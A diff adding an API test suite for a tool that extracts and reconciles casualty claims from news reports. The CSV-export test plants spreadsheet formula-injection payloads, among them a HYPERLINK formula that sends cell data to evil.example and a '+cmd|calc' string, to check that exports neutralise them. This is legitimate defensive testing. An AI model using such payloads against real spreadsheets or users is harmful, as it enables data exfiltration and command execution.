@@ -1,0 +1,399 @@
+/**
+ * @module The API's behaviour on a real store, in-process (`app.request`) and over a real socket; the SQLite and
+ * PostgreSQL test files run it on both adapters.
+ */
+/* eslint-disable @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-argument -- JSON answers are checked by expect(), not by types */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { loadConfig } from '../config.js'
+import type { ClaimDraft } from '../domain/claim.js'
+import type { Store } from '../storage/store.js'
+import { createApp } from './app.js'
+import { parseCsv } from './csv.js'
+import { checkOpenApi31 } from './openapi-check.js'
+import { startServer } from './server.js'
+import { testDeps, type Extractor } from './test-helpers/test-deps.js'
+import { appDeps } from './app-deps.js'
+import { readFileSync } from 'node:fs'
+
+interface ExpectedClaim {
+  quote_contains: string
+  measure: string
+  category: string
+  min: number | null
+  max: number | null
+  scope: string
+  incidents?: number
+  actor?: string | null
+  claimant: string | null
+  period?: { start?: string; end?: string }
+}
+const seedText = readFileSync(new URL('../../test/fixtures/seed-article.txt', import.meta.url), 'utf8')
+const seedExpected = JSON.parse(readFileSync(new URL('../../test/fixtures/seed-expected.json', import.meta.url), 'utf8')) as { published: string; claims: ExpectedClaim[] }
+const flat = (s: string): string => s.replace(/\s+/g, ' ')
+
+/** True when an API claim has every field the acceptance file lists for `e`. */
+function matchesExpected(c: Json, e: ExpectedClaim): boolean {
+  if (!flat(String(c.quote)).includes(flat(e.quote_contains))) return false
+  if (c.measure !== e.measure || c.category !== e.category || c.min !== e.min || c.max !== e.max || c.scope !== e.scope || c.claimant !== e.claimant) return false
+  if (e.incidents !== undefined && c.incidents !== e.incidents) return false
+  if (e.actor !== undefined && c.actor !== e.actor) return false
+  if (e.period?.start !== undefined && c.period.start !== e.period.start) return false
+  return e.period?.end === undefined || c.period.end === e.period.end
+}
+
+/** Drafts for every "killed N people" in a text, dated on the publication day: enough to exercise the API. */
+export const killedExtractor: Extractor = (text, published) => {
+  const claims: ClaimDraft[] = []
+  for (const m of text.matchAll(/killed (\d+) people/g)) {
+    const n = Number(m[1])
+    claims.push({
+      measure: 'killed',
+      category: 'total',
+      min: n,
+      max: n,
+      qualifier: 'exact',
+      scope: 'incident',
+      incidents: null,
+      period: { start: published, end: published, precision: published === null ? null : 'day' },
+      place: { name: 'Miranshah', admin1: 'North Waziristan', country: 'PK', lat: 33.0, lon: 70.07, precision: 'locality' },
+      actor: 'United States',
+      claimant: null,
+      quote: m[0],
+      span: { start: m.index, end: m.index + m[0].length },
+      extractor: 'test@1',
+      eventKey: null,
+      names: [],
+    })
+  }
+  return { claims, findings: [] }
+}
+
+type Json = Record<string, any> // eslint-disable-line @typescript-eslint/no-explicit-any
+
+/** Runs the API suite against stores made by `open` (one store for the whole suite, records kept apart by text). */
+export function runApiSuite(name: string, open: () => Promise<Store>): void {
+  describe(`API on ${name}`, () => {
+    let store: Store
+    const tokens: Record<'viewer' | 'editor' | 'admin', string> = { viewer: '', editor: '', admin: '' }
+    const config = loadConfig({ RECKON_RATE_LIMIT: '0', RECKON_MAX_BODY_BYTES: '4096', RECKON_MAX_DOCUMENT_BYTES: '20000' })
+    const seedConfig = loadConfig({ RECKON_RATE_LIMIT: '0' })
+    let app: ReturnType<typeof createApp>
+    let seq = 0
+
+    beforeAll(async () => {
+      store = await open()
+      for (const role of ['viewer', 'editor', 'admin'] as const) tokens[role] = (await store.tokens.create(`${role}-alice`, role, { actor: 'test' })).token
+      app = createApp(store, config, testDeps(killedExtractor), { checkResponses: true, log: () => {} })
+    })
+    afterAll(async () => {
+      await store?.close()
+    })
+
+    const call = async (method: string, path: string, opts: { token?: keyof typeof tokens; json?: unknown; body?: string | FormData; headers?: Record<string, string> } = {}) => {
+      const headers: Record<string, string> = { ...opts.headers }
+      if (opts.token) headers.authorization = `Bearer ${tokens[opts.token]}`
+      let body = opts.body
+      if (opts.json !== undefined) {
+        headers['content-type'] = 'application/json'
+        body = JSON.stringify(opts.json)
+      }
+      const res = await app.request(path, { method, headers, ...(body === undefined ? {} : { body }) })
+      const text = await res.text()
+      let json: Json = {}
+      try {
+        json = JSON.parse(text) as Json
+      } catch {
+        // CSV and other bodies are read from `text`.
+      }
+      return { status: res.status, json, text, headers: res.headers }
+    }
+    /** A unique article with one "killed N people" figure, published on `date`. */
+    const article = (n: number, date = '2013-11-04') => ({ text: `Report ${++seq} (${name}): a drone strike killed ${n} people near Miranshah.`, published: date, publisher: 'Dawn', kind: 'news' })
+
+    it('reports health and serves a valid OpenAPI 3.1 document', async () => {
+      const h = await call('GET', '/api/health')
+      expect(h.status).toBe(200)
+      expect(h.json).toMatchObject({ ok: true, store: store.kind })
+      const doc = await call('GET', '/api/openapi.json')
+      expect(doc.status).toBe(200)
+      expect(checkOpenApi31(doc.json)).toEqual([])
+      expect(doc.headers.get('x-content-type-options')).toBe('nosniff')
+      expect(doc.headers.get('content-security-policy')).toContain("default-src 'self'")
+    })
+
+    it('refuses an anonymous write with 401 and a viewer’s write with 403, storing nothing', async () => {
+      const before = await store.sources.count()
+      const anon = await call('POST', '/api/sources', { json: article(3) })
+      expect(anon.status).toBe(401)
+      expect(anon.json.error.code).toBe('unauthenticated')
+      const bad = await call('POST', '/api/sources', { json: article(3), headers: { authorization: 'Bearer not-a-real-token' } })
+      expect(bad.status).toBe(401)
+      const viewer = await call('POST', '/api/sources', { token: 'viewer', json: article(3) })
+      expect(viewer.status).toBe(403)
+      expect(viewer.json.error.code).toBe('forbidden')
+      expect(await store.sources.count()).toBe(before)
+      const me = await call('GET', '/api/me', { token: 'viewer' })
+      expect(me.json).toEqual({ authenticated: true, name: 'viewer-alice', role: 'viewer', privateReads: false })
+    })
+
+    it('stores a posted article with its claims, once', async () => {
+      const a = article(7)
+      const r = await call('POST', '/api/sources', { token: 'editor', json: a })
+      expect(r.status).toBe(201)
+      expect(r.json.created).toBe(true)
+      expect(r.json.source).toMatchObject({ publisher: 'Dawn', published: '2013-11-04', text: a.text })
+      expect(r.json.claims).toHaveLength(1)
+      expect(r.json.claims[0]).toMatchObject({ min: 7, quote: 'killed 7 people', status: 'proposed', sourceId: r.json.source.id })
+      const again = await call('POST', '/api/sources', { token: 'editor', json: a })
+      expect(again.json.created).toBe(false)
+      expect(again.json.claims.map((c: Json) => c.id)).toEqual(r.json.claims.map((c: Json) => c.id))
+      const got = await call('GET', `/api/sources/${r.json.source.id}`)
+      expect(got.json.text).toBe(a.text)
+      const listed = await call('GET', `/api/claims?sourceId=${r.json.source.id}`)
+      expect(listed.json.items.map((c: Json) => c.id)).toEqual(r.json.claims.map((c: Json) => c.id))
+      const revs = await call('GET', `/api/revisions?entityType=source&entityId=${r.json.source.id}`)
+      expect(revs.json.items[0]).toMatchObject({ actor: 'editor-alice', action: expect.any(String) })
+    })
+
+    it('accepts an upload as multipart/form-data and refuses one over the size limit', async () => {
+      const form = new FormData()
+      form.set('file', new File([`<html><head><title>Upload ${name}</title></head><body><p>A strike killed 4 people.</p></body></html>`], 'report.html', { type: 'text/html' }))
+      form.set('published', '2014-01-02')
+      const r = await call('POST', '/api/sources', { token: 'editor', body: form })
+      expect(r.status).toBe(201)
+      expect(r.json.source).toMatchObject({ mediaType: 'text/html', filename: 'report.html', title: `Upload ${name}` })
+      expect(r.json.claims.map((c: Json) => c.min)).toEqual([4])
+      const big = new FormData()
+      big.set('file', new File(['x'.repeat(30_000)], 'big.txt', { type: 'text/plain' }))
+      const tooBig = await call('POST', '/api/sources', { token: 'editor', body: big })
+      expect(tooBig.status).toBe(413)
+      const exe = new FormData()
+      exe.set('file', new File(['MZ'], 'tool.exe'))
+      expect((await call('POST', '/api/sources', { token: 'editor', body: exe })).status).toBe(415)
+    })
+
+    it('answers a bad request with 400 naming the field', async () => {
+      const cases: [string, string, unknown, string][] = [
+        ['POST', '/api/sources', { title: 'no text' }, 'body.text'],
+        ['POST', '/api/sources', { text: 'x', published: '2013-02-30' }, 'body.published'],
+        ['POST', '/api/claims/clm_x/reject', {}, 'body.reason'],
+        ['PATCH', '/api/claims/clm_x', { edit: { quote: 'x' }, reason: 'r' }, 'body.edit.quote'],
+        ['GET', '/api/incidents?limit=0', undefined, 'query.limit'],
+        ['GET', '/api/incidents?from=yesterday', undefined, 'query.from'],
+        ['GET', '/api/claims?status=maybe', undefined, 'query.status'],
+      ]
+      for (const [method, path, json, field] of cases) {
+        const r = await call(method, path, { token: 'editor', json })
+        expect({ path, status: r.status, field: r.json.error?.field }).toEqual({ path, status: 400, field })
+        expect(r.json.error.message).toContain(field)
+      }
+      const notJson = await call('POST', '/api/extract', { body: '{"text":', headers: { 'content-type': 'application/json' } })
+      expect(notJson.status).toBe(400)
+      expect(notJson.json.error.field).toBe('body')
+      const tooLarge = await call('POST', '/api/claims/clm_x/reject', { token: 'editor', json: { reason: 'y'.repeat(5000) } })
+      expect(tooLarge.status).toBe(413)
+      expect((await call('GET', '/api/claims/clm_nope')).status).toBe(404)
+      expect((await call('GET', '/api/nowhere')).json.error.code).toBe('not_found')
+    })
+
+    it('records who and why for an edit, accept and reject, and re-reconciles the incident', async () => {
+      const posted = await call('POST', '/api/sources', { token: 'editor', json: article(9, '2015-03-03') })
+      const claimId = posted.json.claims[0].id as string
+      const moved = await call('POST', `/api/claims/${claimId}/move`, { token: 'editor', json: { incidentId: null, reason: 'a strike of its own' } })
+      expect(moved.status).toBe(200)
+      const incidentId = moved.json.incidentId as string
+      expect(incidentId).toMatch(/^inc_/)
+      const edited = await call('PATCH', `/api/claims/${claimId}`, { token: 'editor', json: { edit: { min: 8, max: 10, qualifier: 'range' }, reason: 'hospital list gives 8 to 10' } })
+      expect(edited.status).toBe(200)
+      expect(edited.json).toMatchObject({ min: 8, max: 10 })
+      const history = await call('GET', `/api/revisions?entityType=claim&entityId=${claimId}`)
+      const edit = history.json.items.find((r: Json) => r.why === 'hospital list gives 8 to 10')
+      expect(edit).toMatchObject({ actor: 'editor-alice', entityId: claimId })
+      expect(edit.before).toMatchObject({ min: 9 })
+      expect(edit.after).toMatchObject({ min: 8, max: 10 })
+      const detail = await call('GET', `/api/incidents/${incidentId}`)
+      expect(detail.json.incident.figures).toContainEqual(expect.objectContaining({ measure: 'killed', category: 'total', min: 8, max: 10 }))
+      expect(detail.json.claims[0]).toMatchObject({ id: claimId, quote: 'killed 9 people', source: { id: posted.json.source.id, publisher: 'Dawn' } })
+      expect(detail.json.sources.map((s: Json) => s.id)).toEqual([posted.json.source.id])
+      const rejected = await call('POST', `/api/claims/${claimId}/reject`, { token: 'editor', json: { reason: 'duplicate wire copy' } })
+      expect(rejected.json.status).toBe('rejected')
+      const after = await call('GET', `/api/incidents/${incidentId}`)
+      expect(after.json.incident.figures.filter((f: Json) => f.measure === 'killed')).toEqual([])
+      const why = await call('GET', `/api/revisions?entityType=claim&entityId=${claimId}`)
+      expect(why.json.items[0]).toMatchObject({ actor: 'editor-alice', why: 'duplicate wire copy' })
+      const accepted = await call('POST', `/api/claims/${claimId}/accept`, { token: 'admin', json: {} })
+      expect(accepted.json.status).toBe('accepted')
+    })
+
+    it('lists, filters, merges and splits incidents, and totals them', async () => {
+      const ids: string[] = []
+      for (const [n, date] of [
+        [2, '2016-05-01'],
+        [5, '2016-05-02'],
+        [11, '2016-06-10'],
+      ] as const) {
+        const p = await call('POST', '/api/sources', { token: 'editor', json: article(n, date) })
+        const m = await call('POST', `/api/claims/${p.json.claims[0].id}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })
+        ids.push(m.json.incidentId as string)
+      }
+      const list = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&country=pk&sort=date')
+      expect(list.status).toBe(200)
+      expect(list.json.items.map((i: Json) => i.id)).toEqual(ids)
+      const paged = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&sort=date&limit=1&offset=1')
+      expect(paged.json).toMatchObject({ total: 3, limit: 1, offset: 1, items: [{ id: ids[1] }] })
+      const big = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&minCasualties=5&sort=date')
+      expect(big.json.items.map((i: Json) => i.id)).toEqual([ids[1], ids[2]])
+      const totals = await call('GET', '/api/totals?groupBy=month&from=2016-05-01&to=2016-06-30')
+      expect(totals.json.rows.filter((r: Json) => r.measure === 'killed' && r.category === 'total')).toEqual([
+        { group: '2016-05', measure: 'killed', category: 'total', low: 7, high: 7, incidents: 2 },
+        { group: '2016-06', measure: 'killed', category: 'total', low: 11, high: 11, incidents: 1 },
+      ])
+      const sameUrl = '/api/incidents?from=2016-05-01&to=2016-05-31'
+      expect((await call('GET', sameUrl)).json.total).toBe(2)
+      const merged = await call('POST', `/api/incidents/${ids[1]}/merge`, { token: 'editor', json: { into: ids[0], reason: 'same strike, two reports' } })
+      expect(merged.status).toBe(200)
+      expect(merged.json.figures).toContainEqual(expect.objectContaining({ measure: 'killed', category: 'total', min: 2, max: 5 }))
+      // The same URL again: the write emptied the read cache, so the merged incident is gone at once.
+      const gone = await call('GET', sameUrl)
+      expect(gone.json.items.map((i: Json) => i.id)).toEqual([ids[0]])
+      const suggestions = await call('GET', `/api/claims/${merged.json.links[0].claimId}/suggestions`)
+      expect(suggestions.json[0].incident.id).toBe(ids[0])
+      const moveAway = merged.json.links.find((l: Json) => l.reason === 'same strike, two reports' || true).claimId as string
+      const split = await call('POST', `/api/incidents/${ids[0]}/split`, { token: 'editor', json: { claimIds: [moveAway], reason: 'two strikes after all' } })
+      expect(split.status).toBe(201)
+      expect(split.json.to.links.map((l: Json) => l.claimId)).toEqual([moveAway])
+      expect(split.json.from.links.map((l: Json) => l.claimId)).not.toContain(moveAway)
+      const notIn = await call('POST', `/api/incidents/${ids[2]}/split`, { token: 'editor', json: { claimIds: [moveAway], reason: 'x' } })
+      expect(notIn.json.error.field).toBe('body.claimIds.0')
+      const history = await call('GET', `/api/incidents/${ids[1]}`)
+      expect(history.json.incident).toMatchObject({ status: 'merged', mergedInto: ids[0] })
+      expect(history.json.revisions.some((r: Json) => r.actor === 'editor-alice' && r.why === 'same strike, two reports')).toBe(true)
+    })
+
+    it('exports CSV with no cell a spreadsheet would execute, and GeoJSON with precision', async () => {
+      const evil = `=HYPERLINK("http://evil.example/?"&A1,"click") ${name} killed 6 people`
+      const p = await call('POST', '/api/sources', { token: 'editor', json: { text: evil, published: '2017-02-02', publisher: '@SUM(1+1)', title: '-2+3' } })
+      const claimId = p.json.claims[0].id as string
+      const m = await call('POST', `/api/claims/${claimId}/move`, { token: 'editor', json: { incidentId: null, reason: '+cmd|calc' } })
+      const incidentId = m.json.incidentId as string
+      await store.incidents.update(incidentId as never, { actor: '=1+1', target: '\t=2', place: { name: '+Miranshah', admin1: '-North', country: 'PK', lat: 33.0, lon: 70.07, precision: 'locality' } }, { actor: 'test' })
+      await call('PATCH', `/api/claims/${claimId}`, { token: 'editor', json: { edit: { claimant: '@local officials' }, reason: 'named' } })
+      for (const path of ['/api/export/incidents.csv?from=2017-01-01&to=2017-12-31', `/api/export/claims.csv?sourceId=${p.json.source.id}`, '/api/export/claims.csv?from=2017-01-01&to=2017-12-31']) {
+        const r = await call('GET', path)
+        expect(r.status).toBe(200)
+        expect(r.headers.get('content-type')).toContain('text/csv')
+        const rows = parseCsv(r.text)
+        expect(rows.length).toBe(2)
+        expect(rows[1]!.length).toBe(rows[0]!.length)
+        for (const cell of rows.flat()) expect(/^[=+\-@\t\r]/.test(cell), `${path}: ${cell}`).toBe(false)
+        expect(rows.flat().some((c) => /^'[=+\-@]/.test(c))).toBe(true)
+      }
+      const inc = parseCsv((await call('GET', '/api/export/incidents.csv?from=2017-01-01&to=2017-12-31')).text)
+      const header = inc[0]!
+      const row = Object.fromEntries(header.map((h, i) => [h, inc[1]![i]]))
+      expect(row).toMatchObject({ id: incidentId, actor: "'=1+1", killed_total_low: '6', killed_total_high: '6', source_ids: p.json.source.id, publishers: "'@SUM(1+1)" })
+      const geo = await call('GET', '/api/export/incidents.geojson?from=2017-01-01&to=2017-12-31')
+      expect(geo.json.type).toBe('FeatureCollection')
+      expect(geo.json.features).toEqual([expect.objectContaining({ geometry: { type: 'Point', coordinates: [70.07, 33.0] }, properties: expect.objectContaining({ id: incidentId, precision: 'locality', killedLow: 6 }) })])
+      const json = await call('GET', '/api/export/incidents.json?from=2017-01-01&to=2017-12-31')
+      expect(json.json.incidents.map((i: Json) => i.id)).toEqual([incidentId])
+    })
+
+    const postSeed = async (app: ReturnType<typeof createApp>): Promise<{ posted: Json; extracted: Json }> => {
+      const server = await startServer(app, '127.0.0.1', 0)
+      try {
+        const form = new FormData()
+        form.set('file', new File([seedText], 'seed-article.txt', { type: 'text/plain' }))
+        form.set('published', seedExpected.published)
+        form.set('kind', 'news')
+        const res = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { authorization: `Bearer ${tokens.editor}` }, body: form })
+        expect(res.status).toBe(201)
+        const posted = (await res.json()) as Json
+        const r = await fetch(`${server.url}/api/extract`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: posted.source.text, published: seedExpected.published }) })
+        return { posted, extracted: (await r.json()) as Json }
+      } finally {
+        await server.close()
+      }
+    }
+
+    it('yields the seed article’s claims when an editor uploads it (every extracted claim stored, one per claim key)', async () => {
+      const real = createApp(store, seedConfig, appDeps(), { checkResponses: true, log: () => {} })
+      const anon = await real.request('/api/sources', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: seedText }) })
+      expect(anon.status).toBe(401)
+      const { posted, extracted } = await postSeed(real)
+      expect(posted.source.published).toBe(seedExpected.published)
+      for (const e of seedExpected.claims) expect(extracted.claims.some((c: Json) => matchesExpected(c, e)), e.quote_contains).toBe(true)
+      expect(extracted.findings.some((f: Json) => f.kind === 'contradiction')).toBe(true)
+      // The store keeps one claim per (source, extractor, span, measure, category): the posted answer holds one
+      // stored claim for every extracted draft, identical in its fields when its key is not shared.
+      const key = (c: Json) => `${c.span.start}|${c.span.end}|${c.measure}|${c.category}`
+      expect(new Set(posted.claims.map(key))).toEqual(new Set(extracted.claims.map(key)))
+      const once = extracted.claims.filter((c: Json) => extracted.claims.filter((d: Json) => key(d) === key(c)).length === 1)
+      for (const c of once) expect(posted.claims.find((p: Json) => key(p) === key(c))).toMatchObject({ min: c.min, max: c.max, claimant: c.claimant, quote: c.quote })
+      for (const c of posted.claims) expect(posted.source.text.slice(c.span.start, c.span.end)).toBe(c.quote)
+      // The pipeline linked every incident claim to an incident, and the incident's figures trace back to claims.
+      const linked = posted.claims.filter((c: Json) => c.scope === 'incident')
+      expect(linked.length).toBeGreaterThan(0)
+      for (const c of linked) expect(c.incidentId).toMatch(/^inc_/)
+      const detail = (await (await real.request(`/api/incidents/${linked[0].incidentId}`)).json()) as Json
+      expect(detail.claims.map((c: Json) => c.id)).toContain(linked[0].id)
+      expect(detail.incident.figures.length).toBeGreaterThan(0)
+      const listed = await real.request(`/api/claims?sourceId=${posted.source.id}&limit=500`)
+      expect(((await listed.json()) as Json).total).toBe(new Set(posted.claims.map((c: Json) => c.id)).size)
+    })
+
+    // Two figures read from one quote span ("18 labourers … a grandmother") must both be stored (claimKey holds the figure).
+    it('stores every claim the acceptance file lists for the seed article', async () => {
+      const { posted } = await postSeed(createApp(store, seedConfig, appDeps(), { log: () => {} }))
+      for (const e of seedExpected.claims) expect(posted.claims.some((c: Json) => matchesExpected(c, e)), e.quote_contains).toBe(true)
+    })
+
+    it('extracts without storing', async () => {
+      const before = await store.sources.count()
+      const r = await call('POST', '/api/extract', { json: { text: 'The strike killed 12 people.', published: '2013-01-01' } })
+      expect(r.status).toBe(200)
+      expect(r.json.claims.map((c: Json) => c.min)).toEqual([12])
+      expect(await store.sources.count()).toBe(before)
+    })
+
+    it('keeps reads private when configured, and limits the request rate', async () => {
+      const priv = createApp(store, loadConfig({ RECKON_PRIVATE: '1' }), testDeps(), { log: () => {} })
+      expect((await priv.request('/api/incidents')).status).toBe(401)
+      expect((await priv.request('/api/incidents', { headers: { authorization: `Bearer ${tokens.viewer}` } })).status).toBe(200)
+      expect((await priv.request('/api/health')).status).toBe(200)
+      const limited = createApp(store, loadConfig({ RECKON_RATE_LIMIT: '2' }), testDeps(), { log: () => {} })
+      const statuses = []
+      for (let i = 0; i < 3; i++) statuses.push((await limited.request('/api/health')).status)
+      expect(statuses).toEqual([200, 200, 429])
+      const refused = await limited.request('/api/health')
+      expect(refused.headers.get('retry-after')).toMatch(/^\d+$/)
+      expect(((await refused.json()) as Json).error.code).toBe('rate_limited')
+      // A token has its own bucket, apart from the anonymous caller's address.
+      expect((await limited.request('/api/health', { headers: { authorization: `Bearer ${tokens.viewer}` } })).status).toBe(200)
+    })
+
+    it('serves the same API over a real socket', async () => {
+      const server = await startServer(app, '127.0.0.1', 0)
+      try {
+        const health = await fetch(`${server.url}/api/health`)
+        expect(health.status).toBe(200)
+        const anon = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(article(1)) })
+        expect(anon.status).toBe(401)
+        const viewer = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens.viewer}` }, body: JSON.stringify(article(1)) })
+        expect(viewer.status).toBe(403)
+        const form = new FormData()
+        form.set('file', new File([`Socket ${name}: the strike killed 13 people.`], 'wire.txt', { type: 'text/plain' }))
+        const posted = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { authorization: `Bearer ${tokens.editor}` }, body: form })
+        expect(posted.status).toBe(201)
+        const body = (await posted.json()) as Json
+        expect(body.claims.map((c: Json) => c.min)).toEqual([13])
+        const huge = await fetch(`${server.url}/api/extract`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: 'z'.repeat(30_000) }) })
+        expect(huge.status).toBe(413)
+        const csv = await fetch(`${server.url}/api/export/claims.csv?sourceId=${body.source.id}`)
+        expect(parseCsv(await csv.text())).toHaveLength(2)
+      } finally {
+        await server.close()
+      }
+    })
+  })
+}
